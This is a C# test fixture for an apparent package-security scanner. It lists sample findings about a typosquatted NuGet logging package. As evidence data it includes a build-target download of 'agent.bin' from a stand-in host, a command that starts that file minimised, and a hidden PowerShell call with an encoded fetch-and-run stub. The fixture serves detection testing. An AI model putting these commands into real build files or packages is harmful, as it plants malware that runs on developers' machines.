using Assay.Model;

namespace Assay.Reports.Tests;

internal static class TrojanFindings
{
    private const string Targets = "build/Contoso.Logging.Extended.targets";
    private const string Library = "lib/net8.0/Contoso.Logging.Extended.dll";

    private static readonly Evidence Download = At(Targets, new() { Type = "PrepareContoso", Line = 31, Column = 7, XPath = "/Project/Target[2]/DownloadFile[1]" }, FactKind.Task, "DownloadFile",
        ["build"], ("SourceUrl", "http://cdn.contoso-updates.example:8081/u/agent.bin"), ("DestinationFolder", "$(TEMP)"));

    private static readonly Evidence Start = At(Targets, new() { Type = "PrepareContoso", Line = 33, Column = 7 }, FactKind.Process, "cmd", ["build"], ("args", "/c start /min $(TEMP)\\agent.bin")) with { Relation = "in the same target" };

    private static readonly Evidence Send = At(Library, new() { Type = "Contoso.Logging.Extended.TcpSink", Method = "Emit", IlOffset = 0x1a, File = "TcpSink.cs", Line = 57 }, FactKind.Call,
        "System.Net.Sockets.Socket::Send", ["call"], ("1", "0"), ("2", "SocketFlags.None"));

    public static IReadOnlyList<Issue> Issues { get; } =
    [
        Finding("downloads-and-runs-in-build", "Build files download a program and start it", "threats", AssessmentKind.Malware, AssessmentStatus.Fail, Severity.High, 0,
            "A target of the package fetches a file over plain HTTP and starts it. It runs on every machine that builds a project with this package, with the rights of the person who builds. Tools that fetch compilers do this too, but from their vendor's host over HTTPS and with a checksum.",
            ["build"], 1, Rare(3), [Download, Start], new NextStep(NextStepKind.Stop, "Do not restore the package on a machine that holds secrets."), new NextStep(NextStepKind.Investigate, "Look at machines that built with it since the version was published.")),
        Finding("impersonates-popular-package", "The package id resembles a popular package", "threats", AssessmentKind.Tampering, AssessmentStatus.Fail, Severity.High, 0,
            "The id differs from Contoso.Logging by a suffix and the declared author is that package's author, but the repository is another one.",
            [], 1, Prevalence(PrevalenceStatus.RuleChanged, null, "No prevalence information: the rule changed since the snapshot."), [At("Contoso.Logging.Extended.nuspec", new() { Line = 4, Column = 5 }, FactKind.Metadata, "id", [], ("value", "Contoso.Logging.Extended"))]),
        Finding("credential-in-url", "A URL contains a credential", "secrets", AssessmentKind.Secrets, AssessmentStatus.Warning, Severity.Medium, 2,
            "A path component of a URL looks like an access token. Whoever has the package has the token.", ["call"], 1, Uncommon(412),
            [At(Library, new() { Type = "Contoso.Logging.Extended.HookSink", Method = ".cctor", IlOffset = 0x2c }, FactKind.Secret, "webhook-url", ["first-use"], ("text", "https://hooks.contoso.example/T0…/B0…/****"))]),
        Finding("url-on-unusual-port", "A URL names a port that is not the usual one", "hunting", AssessmentKind.Hardening, AssessmentStatus.Warning, Severity.Medium, 3,
            "Traffic to unusual ports often passes by filters and logs.", ["build"], 1, Uncommon(638), [Download]),
        Finding("weak-signature-digest", "A signature uses a weak digest", "signatures", AssessmentKind.Hardening, AssessmentStatus.Warning, Severity.Low, 4,
            "SHA-1 signatures can be forged with effort.", [], 3, Common(9310), [At("lib/net462/Contoso.Logging.Extended.dll", new(), FactKind.Signature, "authenticode", [], ("digest", "SHA-1"))]),
        Finding("no-readme", "The package has no readme", "integrity", AssessmentKind.Hardening, AssessmentStatus.Pass, Severity.Low, 4,
            "A package without a readme tells its users little.", [], 1, Common(20110), []),
    ];

    public static IReadOnlyList<Behavior> Behaviors { get; } =
    [
        Behavior("downloads-then-runs", "Downloads a file and starts it.", "execution", Risk.Suspicious, ["build"], 1, 2, Rare(3), Download, Start),
        Behavior("starts-interpreter-hidden", "Starts a command interpreter without a window.", "execution", Risk.Suspicious, ["install", "build"], 2, 2, Rare(61), Start,
            At("tools/init.ps1", new() { Line = 12, Column = 5 }, FactKind.Command, "Start-Process", ["install"], ("FilePath", "powershell"), ("WindowStyle", "Hidden"), ("ArgumentList", "-EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcA")) with { Derivation = Derivation.Folded }),
        Behavior("sends-on-tcp-socket", "Sends data on a connected TCP socket.", "network", Risk.Notable, ["call"], 4, 12, Uncommon(480), Send,
            At("lib/netstandard2.0/Contoso.Logging.Extended.dll", new() { Type = "Contoso.Logging.Extended.TcpSink", Method = "Emit", Body = "Contoso.Logging.Extended.TcpSink+<Emit>d__7::MoveNext", IlOffset = 0x9c }, FactKind.Call, "System.Net.Sockets.Socket::Send", ["call"])),
        Behavior("reads-user-name", "Reads the name of the user.", "search", Risk.Benign, ["load", "call"], 4, 4, Common(803), At(Library, new() { Type = "<Module>", Method = ".cctor", IlOffset = 5 }, FactKind.Call, "System.Environment::get_UserName", ["load"])),
        Behavior("writes-file", "Writes a file.", "file", Risk.Benign, ["call"], 4, 31, Common(15220), At(Library, new() { Type = "Contoso.Logging.Extended.RollingFile", Method = "Open", IlOffset = 0x44 }, FactKind.Call, "System.IO.File::Open", ["call"], ("1", "4"))),
        Behavior("compresses-data", "Compresses data.", "file", Risk.Benign, ["call"], 4, 8, Common(2119)),
        Behavior("computes-hash", "Computes a hash of data.", "cryptography", Risk.Benign, ["call"], 2, 2, Common(4410)),
        Behavior("reads-environment-variable", "Reads an environment variable.", "search", Risk.Benign, ["call"], 4, 9, Common(18007)),
    ];

    private static Evidence At(string artifact, ReportedLocation location, FactKind kind, string value, string[] surfaces, params (string Name, string Value)[] arguments) => new()
    {
        Artifact = artifact, Location = location, Kind = kind, Value = value, Derivation = Derivation.Literal, Surfaces = surfaces,
        Arguments = arguments.Length == 0 ? null : arguments.ToDictionary(a => a.Name, a => a.Value, StringComparer.Ordinal),
    };

    private static Issue Finding(string id, string title, string category, AssessmentKind assessment, AssessmentStatus status, Severity severity, int priority, string problem,
        string[] surfaces, int count, Prevalence prevalence, Evidence[] evidence, params NextStep[] steps) => new()
    {
        Id = id, Title = title, Category = category, Assessment = assessment, Status = status, Severity = severity, Priority = priority, Effort = Effort.Medium, Problem = problem,
        NextSteps = steps, References = [new("attack", "T1195.002", "Compromise Software Supply Chain"), new("cwe", "CWE-506", null)], Count = count, Surfaces = surfaces, Evidence = evidence,
        EvidenceTotal = evidence.Length, Prevalence = prevalence, Fingerprint = "f00d" + id.Length,
    };

    private static Behavior Behavior(string id, string title, string category, Risk risk, string[] surfaces, int count, int total, Prevalence prevalence, params Evidence[] evidence) => new()
    {
        Id = id, Title = title, Category = category, Risk = risk, Count = count, Surfaces = surfaces, Evidence = evidence, EvidenceTotal = total, Prevalence = prevalence,
    };

    private static Prevalence Rare(int count) => Known(count, "Rare", $"Rare in this community: {count} of 48,210 packages, none of the 1,000 most downloaded.");
    private static Prevalence Uncommon(int count) => Known(count, "Uncommon", $"Uncommon: {count} of 48,210 packages.");
    private static Prevalence Common(int count) => Known(count, "Common", $"Often found in this community: {count:N0} of 48,210 packages.");
    private static Prevalence Known(int count, string label, string sentence) => new(PrevalenceStatus.Known, label, sentence, new(0, 100, 0), new(count / 100, 1000, count / 100 / 1000d), null, new(count, 48210, Math.Round(count / 48210d, 6)));
    private static Prevalence Prevalence(PrevalenceStatus status, string? label, string sentence) => new(status, label, sentence, null, null, null, null);
}
